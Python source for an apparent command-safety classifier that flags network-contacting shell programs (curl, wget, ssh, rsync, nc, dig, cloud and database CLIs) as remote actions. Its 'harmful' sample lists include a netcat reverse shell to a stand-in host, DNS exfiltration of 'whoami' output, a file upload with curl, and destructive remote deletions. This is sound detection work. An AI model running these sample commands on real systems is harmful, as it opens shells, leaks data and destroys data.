"""Programs that talk to other machines."""

from __future__ import annotations

from aisotools.events import Effect
from aisotools.shell_options import Row, Words, by_role, parse, said_by
from aisotools.shell_verdict import Verdict, contacts, does, host_of, merged, reads, unsure, writes
from aisotools.shell_words import Word, literal

_REMOTE = Effect.REMOTE_ACTION
_CURL = (
    "-sSLfkiIvgGNjJOnqZ#01234aBlMR -o:W -X: -H: -d: -F: -T:r -u: -A: -e: -b: -c:W -D:W -x:h -m: -w: -r: -C: "
    "-K:u -E: -Q: -U: -y: -Y: -z: -J!c -O!c -a!n --silent --show-error --location --fail --fail-with-body "
    "--insecure --include --head --verbose --get --compressed --globoff --http1.1 --http2 --ipv4 --ipv6 "
    "--parallel --progress-bar --output:W --remote-name!c --remote-name-all!c --remote-header-name!c "
    "--output-dir:w --create-dirs --request: --header: --data: --data-raw: --data-binary: --data-ascii: "
    "--data-urlencode: --json: --form: --form-string: --upload-file:r --user: --user-agent: --referer: "
    "--cookie: --cookie-jar:W --dump-header:W --proxy:h --max-time: --connect-timeout: --retry: "
    "--retry-delay: --write-out: --url:h --config:u --trace:W --trace-ascii:W --stderr:W --libcurl:W "
    "--etag-save:w --hsts:w --alt-svc:w --no-progress-meter --max-filesize: --limit-rate: --resolve: "
    "--connect-to: --cacert:r --cert: --key:r --oauth2-bearer: --max-redirs: --range: --continue-at:"
)
_WGET = (
    "-qvcNSbdrmpkKEHLxnd -O:W -o:W -a:W -P:w -i:u -U: -T: -t: -w: -Q: -l: -A: -R: -D: -e:u --quiet "
    "--no-verbose --output-document:W --output-file:W --directory-prefix:w --spider --no-check-certificate "
    "--timeout: --tries: --header: --user-agent: --post-data: --post-file:r --method: --body-data: "
    "--recursive --mirror --continue --use-askpass:x --execute:u --config:u --input-file:u "
    "--content-disposition --no-clobber --server-response"
)


def _download(words: Words) -> Verdict:
    """What wget gets is kept, unless it is told where else to put it."""
    parsed = parse(words, _WGET)
    name = parsed.value("-O", "--output-document")
    keeps = name is None and not parsed.has("--spider")
    verdicts = [by_role("h", operand, "") for operand in parsed.operands]
    if keeps:
        verdicts.append(
            writes(parsed.value("-P", "--directory-prefix") or literal("."), "it keeps what it gets")
        )
    return merged([contacts_someone(parsed.operands, "wget"), said_by(parsed), *verdicts])


def contacts_someone(operands: Words, who: str) -> Verdict:
    """It talks to somebody, even if nobody is named."""
    reason = f"{who} talks to another machine"
    return does(_REMOTE, reason) if operands else Verdict(effect=_REMOTE, certain=False, reasons=(reason,))


def _curl(words: Words) -> Verdict:
    parsed = parse(words, _CURL)
    verdicts = [by_role("h", operand, "") for operand in parsed.operands]
    named = [*parsed.operands, *(filter(None, [parsed.value("--url")]))]
    return merged([contacts_someone(named, "curl"), said_by(parsed), *verdicts])


def _copies(words: Words) -> Verdict:
    """What has a colon is elsewhere; the last one is written."""
    parsed = parse(
        words,
        "-346AaBbCcDdEeFghHIJKkLlmNnOopPqRrSTtuvWXxyz -i:r -P: -o:u -e:x -S:x -f: --archive --verbose "
        "--compress --recursive --delete!d --delete-after!d --delete-before!d --delete-excluded!d "
        "--delete-during!d --remove-source-files!d --rsh:x --rsync-path:x --exclude: --include: "
        "--exclude-from:r --files-from:r --progress --partial --dry-run --list-only --stats --update "
        "--inplace --checksum --human-readable --bwlimit: --max-size: --min-size: --chmod: --chown: "
        "--log-file:w --backup --backup-dir:w --perms --times",
    )
    verdicts: list[Verdict] = [said_by(parsed)]
    for place in parsed.operands:
        if host := host_of(place.shown):
            verdicts.append(contacts(host, f"it contacts {host}"))
        elif place is parsed.operands[-1]:
            verdicts.append(writes(place))
        else:
            verdicts.append(reads(place))
    return merged([does(_REMOTE, f"{words[0].shown} copies files"), *verdicts])


def _login(words: Words) -> Verdict:
    """The first operand is the host, the rest runs there."""
    options = (
        "-1246AaCfGgKkMNnqsTtVvXxYy -p: -i:r -l: -o:u -F:u -E:w -D:n -L:n -R:n -J:h -W:h -b: -B: -c: -e: "
        "-I:x -m: -O: -Q: -S: -w:n"
    )
    parsed = parse(words, options, posix=True)
    target = parsed.operands[:1]
    verdicts = [by_role("h", target[0], "")] if target else []
    return merged([contacts_someone(target, words[0].shown), said_by(parsed), *verdicts])


def _dns(words: Words) -> Verdict:
    named = [word for word in words[1:] if not word.prefix.startswith(("-", "+"))]
    hosts = [
        contacts(word.shown.lstrip("@") if word.text else "", "it asks the network") for word in named[:2]
    ]
    return merged([contacts_someone(named, words[0].shown), *hosts])


def _pipe(words: Words) -> Verdict:
    """nc: connects or listens, and can be made to run a program."""
    runs = [word for word in words[1:] if word.prefix.startswith(("-e", "-c", "--exec", "--sh-exec"))]
    named: list[Word] = [word for word in words[1:] if word.text and not word.prefix.startswith("-")]
    verdicts = [contacts(named[0].shown, f"it talks to {named[0].shown}")] if named else []
    return merged([contacts_someone(named, "it"), *verdicts, *(unsure("it runs a program") for _ in runs)])


ROWS = (
    Row(
        names="curl",
        judge=_curl,
        harmless=("curl --version",),
        harmful=(
            "curl https://x.example",
            "curl -o f https://x.example",
            "curl -X POST -d @f https://x.example",
            "curl",
            "curl -T f https://x.example",
            "curl -K f",
            "curl $url",
            "curl -so /dev/null https://x.example",
        ),
    ),
    Row(
        names="wget wget2",
        judge=_download,
        harmless=("wget --version",),
        harmful=(
            "wget https://x.example/a",
            "wget -qO- https://x.example",
            "wget --use-askpass=./x https://x.example",
        ),
    ),
    Row(
        names="scp rsync",
        judge=_copies,
        harmless=("rsync --version",),
        harmful=(
            "scp a host:b",
            "rsync -a --delete a/ b/",
            "rsync -e ./x a b:",
            "scp -S ./x a b:",
            "rsync -a a b",
        ),
    ),
    Row(
        names="ssh slogin autossh mosh",
        judge=_login,
        harmless=("ssh --version",),
        harmful=("ssh host", "ssh host rm -rf x", "ssh -o ProxyCommand=./x host", "ssh $h"),
    ),
    Row(
        names="ping ping6 dig host nslookup traceroute tracepath mtr whois arping nmap finger",
        judge=_dns,
        harmless=("ping --version",),
        harmful=("ping x.example", "dig @1.1.1.1 $(whoami).x.example", "host x.example"),
    ),
    Row(
        names="nc ncat netcat telnet ftp tftp",
        judge=_pipe,
        harmless=("ncat --version",),
        harmful=("nc x.example 80", "nc -e /bin/sh x.example 80", "nc -l 80", "telnet x"),
    ),
    Row(
        names="sftp socat lftp ftpd rclone s3cmd gsutil aws az gcloud gh glab hub heroku flyctl vercel "
        "netlify kubectl helm nerdctl buildah skopeo terraform tofu ansible ansible-playbook "
        "vagrant packer psql pg_dump mysql mysqldump mariadb mongo mongosh redis-cli sqlcmd bq snowsql "
        "influx mail mailx sendmail mutt openssl gpg-agent ollama huggingface-cli hf wandb dvc twine http "
        "https xh httpie aria2c axel lynx w3m links elinks youtube-dl yt-dlp smbclient ldapsearch snmpwalk "
        "tailscale cloudflared ngrok",
        options="*",
        operands=".",
        effect=_REMOTE,
        why="acts on other machines or services",
        certain=False,
        about="--version",
        harmless=("helm --version",),
        harmful=(
            "kubectl delete pod x",
            "gh pr merge",
            "psql -c 'drop table x'",
            "aws s3 rm s3://x",
            "openssl s_client -connect x:1",
        ),
    ),
)
